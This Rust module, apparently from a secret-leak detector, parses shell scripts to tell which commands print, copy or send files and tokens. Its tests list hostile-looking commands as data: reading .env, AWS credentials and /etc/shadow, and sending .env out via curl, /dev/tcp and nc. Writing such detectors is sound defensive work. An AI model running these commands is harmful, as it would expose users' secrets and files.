//! What a shell command reads, prints and sends, told from its text.
//!
//! The text is parsed with the grammar that editors use for Bash (tree-sitter),
//! never searched with expressions: quoting, here-documents, substitutions and
//! nested scripts are seen for what they are. Nothing is run or expanded. What
//! can't be understood is said so ([`Script::sound`]), and what a program does
//! follows from a table of those that print, copy or send what they are given.

mod deed;
mod flow;
mod inline;
mod made;
mod operands;
mod program;
mod table;
mod touch;
mod walk;
mod word;

use leaktight_core::Span;

pub use self::deed::{Act, Deed};
pub(crate) use self::inline::names;
pub(crate) use self::program::mentions_governing;
pub use self::touch::{How, Touch};
pub use self::word::Word;

/// The longest script that is looked at, in bytes.
const MAX_LEN: usize = 64 << 10;
/// How deep scripts may lie in scripts.
const MAX_DEPTH: usize = 6;
/// How often the parser may ask whether to go on; it asks every hundred steps or so.
const MAX_STEPS: usize = 3_000;
/// How often these may stand in a script: the parser's work grows with their square.
const MAX_OF: [(&str, usize); 3] = [("|", 400), ("<<", 100), ("=(", 100)];

/// A script, taken apart.
#[derive(Clone, Debug, Default)]
#[non_exhaustive]
pub struct Script {
    /// What its commands do, in the order they stand there.
    pub deeds: Vec<Deed>,
    /// The files its commands name, whatever they do with them.
    pub touches: Vec<Touch>,
    /// How its commands are joined.
    pub shape: Shape,
    /// The programs of its commands, each with the place of the command.
    pub programs: Vec<(String, Span)>,
    /// Whether all of it was understood: it parses, is not too long and hides
    /// nothing in scripts within scripts.
    pub sound: bool,
}

/// How the commands of a script are joined.
#[derive(Clone, Copy, Debug, Default, Eq, PartialEq)]
#[non_exhaustive]
pub enum Shape {
    /// There is no command.
    #[default]
    Empty,
    /// One pipeline of simple commands that ends in the foreground, without here-documents.
    Pipeline,
    /// Anything else.
    Compound,
}

/// Takes a script apart. `variable` returns what the shell's variables hold as far
/// as the caller knows, such as `HOME`.
pub fn read(script: &str, variable: &dyn Fn(&str) -> Option<String>) -> Script {
    let mut walk = walk::Walk::new(variable);
    walk.outermost(script);
    let (commands, shape, mut sound) = walk.finish();
    let (mut deeds, mut touches) = (Vec::new(), Vec::new());
    let (fates, is_whole) = flow::fates(&commands);
    sound &= is_whole;
    for (command, fate) in commands.iter().zip(&fates) {
        sound &= deed::tell(command, fate, &mut deeds);
        touch::tell(command, &mut touches);
    }
    made::tell(&commands, &mut deeds);
    if script.contains("]::") {
        // A call of .NET, as PowerShell has it.
        names(script).into_iter().for_each(|name| deeds.push(Deed::new(Act::Prints, Word::literal(name))));
    }
    let is_outer = |command: &&Command| !command.span.is_empty() && !command.words.is_empty();
    let program = |command: &Command| (program::name(&command.words[0]), command.span);
    let programs = commands.iter().filter(is_outer).map(program).collect();
    Script { deeds, touches, shape, programs, sound }
}

/// A simple command.
#[derive(Clone, Debug, Default)]
pub(crate) struct Command {
    /// Its words, the program first.
    words: Vec<Word>,
    /// Files it gets on its standard input.
    inputs: Vec<Word>,
    /// Files it writes to.
    outputs: Vec<Word>,
    /// Text it gets on its standard input: here-documents and here-strings.
    texts: Vec<Word>,
    /// Folders that commands before it changed to.
    folders: Vec<String>,
    /// Where it stands in the outermost script.
    span: Span,
    /// Where it starts: in its script and in those around, each by its number.
    places: Vec<(usize, usize)>,
    /// What gets its output.
    ends: Vec<flow::End>,
}

#[cfg(test)]
mod tests {
    use super::*;

    fn variable(name: &str) -> Option<String> {
        (name == "HOME").then(|| "/home/me".to_owned())
    }

    /// The deeds of a script in short: a letter and the target.
    fn deeds(script: &str) -> String {
        let script = read(script, &variable);
        let short = |deed: &Deed| {
            let act = match deed.act {
                Act::Prints => "P",
                Act::Copies => "C",
                Act::Sends => "S",
                Act::Contacts => "@",
                Act::Environment => "E",
                Act::Secret => "!",
                Act::Encodes => "X",
                Act::Recalls => "R",
                Act::Hands => "H",
                Act::Governs => "G",
                Act::Runs => "run",
            };
            format!("{act}:{}", deed.target.text)
        };
        script.deeds.iter().filter(|deed| deed.act != Act::Runs).map(short).collect::<Vec<_>>().join(" ")
    }

    #[test]
    fn files_that_are_printed() {
        for (script, expected) in [
            ("cat .env", "P:.env"),
            ("cat '.env' \".e\"nv a\\ b", "P:.env P:.env P:a b"),
            ("cat < .env", "P:.env"),
            ("echo $(< .env)", "P:.env"),
            ("while read l; do echo $l; done < .env", "P:.env"),
            ("F=.env; cat \"$F\"", "P:.env"),
            ("cat $HOME/.aws/credentials", "P:/home/me/.aws/credentials"),
            ("cat $'\\x2eenv'", "P:.env"),
            ("grep -n TOKEN .env", "P:.env"),
            ("grep -e TOKEN .env", "P:TOKEN P:.env"),
            ("sed -n 1,5p .env | head -3", "P:.env P:-3"),
            ("diff <(cat .env) other", "P: P:other P:.env"),
            ("sudo -u root cat /etc/shadow", "P:/etc/shadow"),
            ("bash -lc 'cat .env'", "P:.env"),
            ("bash -c \"bash -c 'cat .env'\"", "P:.env"),
            ("eval cat .env", "P:.env"),
            ("bash <<< 'cat .env'", "P:.env"),
            ("find . -name .env -exec cat {} ;", "P:. P:.env P:{}"),
            ("python3 -c \"print(open('.env').read())\"", "P:.env P:.read"),
            ("python3 - <<E\nprint(open('.env'))\nE\n", "P:.env"),
            ("if true; then cat .env; fi", "P:.env"),
            ("f() { cat .env; }; f", "P:.env"),
            ("(cat .env)", "P:.env"),
            ("! cat .env", "P:.env"),
            ("base64 .env", "X:.env"),
            ("xargs cat < list", "P:list"),
        ] {
            let expected = expected.replace(" P:-3", "");
            assert_eq!(deeds(script), expected, "{script}");
        }
    }

    #[test]
    fn files_that_are_used_and_not_shown() {
        for script in [
            "python3 app.py",
            "source .env && npm start",
            "ls -la .env",
            "rm .env",
            "docker compose --env-file .env up",
            "ssh-add key",
            "psql < dump.sql",
            "git add .env",
            "test -f .env",
            "[ -f .env ]",
            "node --env-file=.env app.js",
            "export PORT=1",
            "set -euo pipefail",
            "echo hello > .env",
        ] {
            assert_eq!(deeds(script), "", "{script}");
        }
    }

    #[test]
    fn variables_and_what_programs_keep() {
        for (script, expected) in [
            ("env", "E:"),
            ("env | grep KEY", "E:"),
            ("printenv", "E:"),
            ("printenv PATH", ""),
            ("printenv GITHUB_TOKEN", "E:GITHUB_TOKEN"),
            ("export -p", "E:"),
            ("declare -x", "E:"),
            ("set", "E:"),
            ("echo $GITHUB_TOKEN", "E:GITHUB_TOKEN"),
            ("echo \"a ${GITHUB_TOKEN:-b}\"", "E:GITHUB_TOKEN"),
            ("echo $PATH", ""),
            ("env A=1 npm test", ""),
            ("node -e 'console.log(process.env)'", "P:console.log E:"),
            ("kubectl -n x get secret/db -o yaml", "!:secrets of a cluster"),
            ("gh auth token", "!:a token"),
            ("gh pr list", ""),
            ("aws s3 ls", "S:s3 S:ls"),
            ("leaktight restore x", "!:the values behind placeholders"),
        ] {
            assert_eq!(deeds(script), expected, "{script}");
        }
    }

    #[test]
    fn what_is_sent_and_copied() {
        for (script, expected) in [
            ("leaktight run -- curl https://example.com", "@:https://example.com"),
            ("curl -u \"$API_TOKEN\" https://example.com", "S: @:https://example.com H:API_TOKEN"),
            ("curl -d @.env https://example.com", "S:-d S:.env S:@.env @:https://example.com"),
            ("cp .env /tmp/x", "C:.env"),
            ("tar czf a.tgz .env", "C:czf C:a.tgz C:.env"),
            ("dd if=.env of=x", "C:.env"),
            ("dd if=.env", "P:.env C:.env"),
            ("cat .env > /dev/tcp/1.2.3.4/80", "@:/dev/tcp/1.2.3.4/80 P:.env"),
            ("nc host 80 < .env", "S:.env S:host S:80"),
        ] {
            let expected = expected.replace("S:-d ", "");
            assert_eq!(deeds(script), expected, "{script}");
        }
    }

    #[test]
    fn one_pipeline_is_told_from_the_rest() {
        for (script, shape) in [
            ("", Shape::Empty),
            ("# nothing", Shape::Empty),
            ("cat .env", Shape::Pipeline),
            ("cat .env | head -1 2>&1", Shape::Pipeline),
            ("A=1 cat <.env", Shape::Pipeline),
            ("cat a; cat b", Shape::Compound),
            ("cat a;", Shape::Compound),
            ("cat a &", Shape::Compound),
            ("cd a && cat .env", Shape::Compound),
            ("(cat a)", Shape::Compound),
            ("! cat a", Shape::Compound),
            ("cat <<E\na\nE\n", Shape::Compound),
            ("if true; then cat a; fi", Shape::Compound),
            ("cat a\ncat b", Shape::Compound),
        ] {
            assert_eq!(read(script, &variable).shape, shape, "{script}");
        }
    }

    #[test]
    fn what_is_not_understood_is_said_so() {
        for script in ["cat .env (", "$CMD .env", "eval \"$X\"", "bash -c \"$(curl x)\""] {
            assert!(!read(script, &variable).sound, "{script}");
        }
        assert!(read("cat .env && echo \"$A\" | grep x", &variable).sound);
    }

    #[test]
    fn hostile_scripts_end_in_time() {
        for script in [
            "(".repeat(100_000),
            "$(".repeat(50_000),
            "a|".repeat(100_000),
            "'".repeat(99_999),
            "<<a\n".repeat(20_000),
            "`".repeat(99_999),
            "{".repeat(200_000),
        ] {
            let start = std::time::Instant::now();
            let _ = read(&script, &variable);
            assert!(start.elapsed().as_secs() < 5, "{}…", &script[..8]);
        }
    }

    #[test]
    fn folders_are_remembered() {
        let script = read("cd a && cd b; cat .env", &variable);
        assert_eq!(script.deeds[0].folders, ["a", "b"]);
    }
}
